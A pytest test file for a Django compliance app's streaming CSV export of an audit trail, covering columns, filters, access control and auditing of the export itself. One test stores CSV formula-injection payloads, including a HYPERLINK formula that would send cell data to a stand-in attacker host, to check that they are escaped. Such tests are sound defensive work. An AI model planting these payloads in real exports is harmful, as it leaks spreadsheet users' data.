"""CSV export of the audit trail: columns, formula-injection escaping, filters, streaming,
and the export recorded as an audit event."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from compliance.export import EXPORT_COLUMNS, audit_export_csv
from compliance.models import AuditEvent
from compliance.services.audit import audit_record
from rebalance_app.exceptions import PermissionDenied

EXPORT = reverse("compliance:audit_export")


def _download(client, query: dict | None = None) -> list[dict[str, str]]:
    response = client.get(EXPORT, query or {})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-trail-')
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_export_has_the_documented_columns_in_chain_order(client, compliance):
    audit_record(actor="system:test", action="test.a", object_type="x", object_id=1, after={"b": 2})
    client.force_login(compliance)
    response = client.get(EXPORT)
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert header == [
        "seq",
        "created_at",
        "actor",
        "action",
        "object_type",
        "object_id",
        "before",
        "after",
        "reason",
        "request_id",
        "ip",
        "prev_hash",
        "hash",
    ]
    assert tuple(header) == EXPORT_COLUMNS


@pytest.mark.django_db
def test_export_rows_match_the_stored_chain(client, compliance):
    event = audit_record(
        actor="system:test",
        action="test.row",
        object_type="portfolios.account",
        object_id=7,
        before={"cash": "10.00"},
        after={"cash": "12.50", "note": "ü"},
        reason="deposit",
        request_id="req-9",
        ip="10.1.2.3",
    )
    client.force_login(compliance)
    rows = _download(client, {"action": "test.row"})
    assert rows == [
        {
            "seq": str(event.seq),
            "created_at": event.created_at.isoformat(timespec="microseconds"),
            "actor": "system:test",
            "action": "test.row",
            "object_type": "portfolios.account",
            "object_id": "7",
            "before": '{"cash":"10.00"}',
            "after": '{"cash":"12.50","note":"ü"}',
            "reason": "deposit",
            "request_id": "req-9",
            "ip": "10.1.2.3",
            "prev_hash": event.prev_hash,
            "hash": event.hash,
        }
    ]
    assert rows[0]["created_at"].endswith("+00:00")


@pytest.mark.django_db
def test_export_escapes_cells_that_a_spreadsheet_would_run_as_formulas(client, compliance):
    audit_record(
        actor="@attacker",
        action="test.formula",
        object_type="x",
        object_id="+1",
        reason='=HYPERLINK("http://evil.example/?"&A1,"click")',
        request_id="-2+3",
        ip="\tcmd",
    )
    client.force_login(compliance)
    (row,) = _download(client, {"action": "test.formula"})
    assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["actor"] == "'@attacker"
    assert row["object_id"] == "'+1"
    assert row["request_id"] == "'-2+3"
    assert row["ip"] == "'\tcmd"


@pytest.mark.django_db
def test_export_honours_the_page_filters(client, compliance, pm, ops):
    audit_record(actor=pm, action="basket.submit", object_type="orders.tradebasket", object_id=1)
    audit_record(actor=ops, action="basket.approve", object_type="orders.tradebasket", object_id=1)
    audit_record(actor=pm, action="basket.submit", object_type="orders.tradebasket", object_id=2)
    client.force_login(compliance)
    rows = _download(client, {"action": "basket.", "actor": "pm"})
    assert [(r["actor"], r["object_id"]) for r in rows] == [("pm", "1"), ("pm", "2")]
    rows = _download(client, {"object_type": "orders.tradebasket", "object_id": "1"})
    assert [r["action"] for r in rows] == ["basket.submit", "basket.approve"]


@pytest.mark.django_db
def test_export_is_itself_audited_with_its_filters(client, compliance):
    client.force_login(compliance)
    _download(client, {"action": "basket.", "date_from": "2024-01-01", "page": "3", "junk": "x"})
    event = AuditEvent.objects.order_by("-seq").first()
    assert (event.action, event.actor, event.object_type) == (
        "audit.export",
        compliance,
        "compliance.auditevent",
    )
    assert event.after == {"filters": {"action": "basket.", "date_from": "2024-01-01"}}
    assert event.request_id  # the page's request id ties the export to the request log


@pytest.mark.django_db
def test_export_is_refused_to_a_pm_and_nothing_is_recorded(pm):
    before = AuditEvent.objects.count()
    with pytest.raises(PermissionDenied, match=r"^Only Compliance and Admin users may read"):
        audit_export_csv(user=pm, filters={})
    assert AuditEvent.objects.count() == before
